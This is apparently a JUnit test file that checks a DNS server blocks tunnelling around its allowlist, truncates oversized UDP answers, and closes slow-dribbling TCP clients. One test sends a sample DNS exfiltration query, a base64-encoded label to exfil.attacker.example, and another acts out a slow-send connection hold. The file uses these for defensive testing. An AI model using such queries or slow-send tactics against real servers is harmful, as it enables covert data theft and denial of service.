package lnm.dns;

import static lnm.dns.DnsClient.parse;
import static lnm.dns.DnsClient.query;
import static lnm.dns.DnsClient.udp;
import static org.awaitility.Awaitility.await;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.OutputStream;
import java.net.InetAddress;
import java.net.Socket;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.concurrent.atomic.AtomicLong;
import lnm.config.Config;
import lnm.config.LoadResult;
import lnm.testing.Lnm;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * The DNS server is no tunnel around the allowlist: only names in {@code dns.forwardZones}
 * reach {@code dns.upstream}, no UDP answer is larger than the client can take (forwarded
 * ones included), and a TCP client cannot hold a slot by dribbling bytes.
 */
class DnsTunnelTest {
    static final InetAddress LO = InetAddress.getLoopbackAddress();
    static final Duration PATIENCE = Duration.ofSeconds(30);

    @TempDir
    Path dir;
    Lnm lnm;
    DnsServer server;

    @AfterEach
    void stop() {
        if (lnm != null) {
            lnm.close();
        }
        if (server != null) {
            server.close();
        }
    }

    int start(FakeUpstream up) throws Exception {
        lnm = Lnm.start(dir, DnsServerIntegrationTest.config("dns.upstream = 127.0.0.1:" + up.port(),
                "dns.forwardZones = plant.local, corp.example"), DnsServerIntegrationTest.ALLOWLIST);
        return lnm.app.dns().tcpAddress().orElseThrow().getPort();
    }

    DnsCounters counters() {
        return lnm.app.dns().counters();
    }

    @Test
    void anOffZoneTxtQueryIsRefusedWhileANameInAForwardZoneIsForwarded() throws Exception {
        try (FakeUpstream up = new FakeUpstream()) {
            int port = start(up);
            byte[] exfil = udp(port, query(1, "aGVsbG8gZnJvbSB0aGUgcGxhbnQ.exfil.attacker.example", DnsCodes.TYPE_TXT, 0));
            assertEquals(DnsCodes.REFUSED, parse(exfil).rcode());
            assertEquals(1, parse(exfil).id());
            assertTrue(exfil.length <= 87, "REFUSED is no larger than the query: " + exfil.length);
            byte[] plant = udp(port, query(2, "historian.plant.local", DnsCodes.TYPE_TXT, 0));
            assertEquals(DnsCodes.NOERROR, parse(plant).rcode());
            assertEquals(2, parse(plant).id());
            byte[] corp = udp(port, query(3, "Corp.Example", DnsCodes.TYPE_A, 0));
            assertEquals(List.of(InetAddress.getByName("192.0.2.53")), DnsClient.addresses(corp));
            assertEquals(2, up.received.size(), "only the two in-zone names reached the upstream");
            for (byte[] q : up.received) {
                assertFalse(parse(q).question().name().lowerText().contains("attacker"));
            }
            assertEquals(1, counters().get(DnsResult.REFUSED));
            assertEquals(2, counters().get(DnsResult.FORWARDED));
            String refused = lnm.awaitAudit(3).stream().filter(l -> l.contains("attacker")).findFirst().orElseThrow();
            assertEquals("refused", Lnm.field(refused, "result"));
        }
    }

    @Test
    void aLargeForwardedAnswerIsTruncatedToWhatTheUdpClientCanTake() throws Exception {
        try (FakeUpstream up = new FakeUpstream()) {
            up.txtBytes = 3_088;
            int port = start(up);
            byte[] classic = udp(port, query(7, "big.plant.local", DnsCodes.TYPE_TXT, 0));
            assertTrue(classic.length <= 512, classic.length + " bytes without EDNS");
            DnsMessage m = parse(classic);
            assertTrue(m.truncated(), "TC set: the client retries over TCP");
            assertEquals(7, m.id());
            assertEquals("big.plant.local", m.question().name().text());
            assertEquals(List.of(), m.answers());
            assertEquals(DnsCodes.NOERROR, m.rcode());

            byte[] edns = udp(port, query(8, "big.plant.local", DnsCodes.TYPE_TXT, 1232));
            assertTrue(edns.length <= 1232 && parse(edns).truncated(), edns.length + " bytes with EDNS 1232");
            assertTrue(parse(edns).edns() != null, "the OPT record answers the client's");
            byte[] big = udp(port, query(9, "big.plant.local", DnsCodes.TYPE_TXT, 4096));
            assertTrue(big.length <= DnsWriter.UDP_SIZE && parse(big).truncated(), "never above what lnm advertises");

            byte[] tcp = DnsClient.tcp(port, DnsClient.frames(query(10, "big.plant.local", DnsCodes.TYPE_TXT, 0)), 1).get(0);
            assertFalse(parse(tcp).truncated(), "over TCP the whole answer");
            assertTrue(tcp.length > 3_088, tcp.length + " bytes");
            assertEquals(3, counters().truncated.sum());

            up.txtBytes = 300;
            byte[] fits = udp(port, query(11, "small.plant.local", DnsCodes.TYPE_TXT, 0));
            assertFalse(parse(fits).truncated(), "an answer that fits is relayed whole");
            assertEquals(2, parse(fits).answers().size());
        }
    }

    @Test
    void aTcpClientDribblingOneByteEveryFiveSecondsIsClosedAtTheQueryDeadline() throws Exception {
        Files.writeString(dir.resolve("allowlist.properties"), DnsServerIntegrationTest.ALLOWLIST);
        Files.writeString(dir.resolve("lnm.properties"), DnsServerIntegrationTest.config());
        LoadResult r = Config.load(dir.resolve("lnm.properties"));
        assertTrue(r.ok(), r.problems().toString());
        Config c = r.config();
        AtomicLong clock = new AtomicLong(0);
        server = new DnsServer(() -> c, null, clock::get);
        assertEquals(List.of(), server.start());
        int port = server.tcpAddress().orElseThrow().getPort();
        byte[] frame = DnsClient.frames(query(1, "management.azure.com", DnsCodes.TYPE_A, 0));
        try (Socket s = new Socket(LO, port)) {
            s.setSoTimeout((int) PATIENCE.toMillis());
            await().atMost(PATIENCE).until(() -> server.tcpConnections() == 1);
            OutputStream out = s.getOutputStream();
            out.write(frame[0]);
            out.flush();
            clock.set(5_000);
            out.write(frame[1]);
            out.flush();
            clock.set(TcpConnection.QUERY_MILLIS); // two bytes in ten seconds: the query's time is up
            assertEquals(-1, s.getInputStream().read(), "closed, no answer");
        }
        await().atMost(PATIENCE).until(() -> server.tcpConnections() == 0);
        assertEquals(1, server.counters().tcpDeadlines.sum());
        assertEquals(0, server.counters().get(DnsResult.ANSWERED), "the query never became whole");
    }
}
